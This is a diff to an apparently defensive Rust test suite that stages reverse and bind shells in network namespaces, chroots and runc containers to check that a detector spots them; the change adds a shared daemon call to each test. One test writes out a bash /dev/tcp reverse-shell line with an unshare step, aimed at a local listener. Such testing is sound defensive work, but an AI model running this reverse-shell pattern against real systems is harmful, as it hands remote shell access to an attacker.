@@ -81,6 +81,7 @@ const SHELL: &[&str] = &["/bin/sh"];
 #[test]
 fn reverse_shell_from_another_network_namespace_to_a_private_peer() {
     require!("gcc", "ip");
+    Daemon::shared();
     let net = Net::new("10.231");
     let attacker = Listener::at(&net.here);
     let victim = net.victim(&words(&attack(&net.here, attacker.port())));
@@ -91,6 +92,7 @@ fn reverse_shell_from_another_network_namespace_to_a_private_peer() {
 #[test]
 fn reverse_shell_to_a_public_peer_names_it_as_an_indicator() {
     require!("gcc", "ip");
+    Daemon::shared();
     let net = Net::new("203.0");
     let attacker = Listener::at(&net.here);
     let victim = net.victim(&words(&attack(&net.here, attacker.port())));
@@ -102,6 +104,7 @@ fn reverse_shell_to_a_public_peer_names_it_as_an_indicator() {
 #[test]
 fn bind_shell_in_another_network_namespace() {
     require!("gcc", "ip");
+    Daemon::shared();
     let net = Net::new("10.232");
     let program = program("attack");
     // The port is of the range that the kernel gives out: that it is listened on has to be seen in that namespace.
@@ -121,6 +124,7 @@ fn bind_shell_in_another_network_namespace() {
 #[test]
 fn own_pid_mount_network_and_ipc_namespaces() {
     require!("gcc", "ip", "unshare");
+    Daemon::shared();
     let net = Net::new("10.233");
     let attacker = Listener::at(&net.here);
     let attack = attack(&net.here, attacker.port());
@@ -139,6 +143,7 @@ fn own_pid_mount_network_and_ipc_namespaces() {
 #[test]
 fn own_user_namespace() {
     require!("gcc", "unshare");
+    Daemon::shared();
     let attacker = Listener::tcp();
     let attack = attack("127.0.0.1", attacker.port());
     let unshare = ["--user", "--map-root-user"];
@@ -149,6 +154,7 @@ fn own_user_namespace() {
 #[test]
 fn own_user_namespace_of_another_user() {
     require!("gcc", "unshare", "setpriv");
+    Daemon::shared();
     let attacker = Listener::tcp();
     let directory = readable_directory();
     let mine = directory.path().join("attack");
@@ -177,6 +183,7 @@ fn readable_directory() -> tempfile::TempDir {
 #[test]
 fn a_socket_of_another_network_namespace_than_its_user() {
     require!("bash", "unshare");
+    Daemon::shared();
     let attacker = Listener::tcp();
     let line = format!("exec 5<>/dev/tcp/127.0.0.1/{}; exec unshare --net sh <&5 >&5 2>&5", attacker.port());
     let victim = Victim::start("/bin/bash", &["-c", &line]);
@@ -198,6 +205,7 @@ fn busybox_root(at: &Path) {
 #[test]
 fn chroot_with_busybox() {
     require!("gcc", "busybox", "chroot");
+    Daemon::shared();
     let attacker = Listener::tcp();
     let directory = tempfile::tempdir().unwrap();
     busybox_root(directory.path());
@@ -268,6 +276,7 @@ fn runc_works() -> bool {
 #[test]
 fn reverse_shell_in_a_runc_container() {
     require!("gcc", "runc", "busybox");
+    Daemon::shared();
     if !runc_works() {
         return common::impossible("runc cannot run a container");
     }
@@ -291,6 +300,7 @@ fn reverse_shell_in_a_runc_container() {
 #[test]
 fn busybox_netcat_in_a_runc_container() {
     require!("gcc", "runc", "busybox");
+    Daemon::shared();
     if !runc_works() {
         return common::impossible("runc cannot run a container");
     }
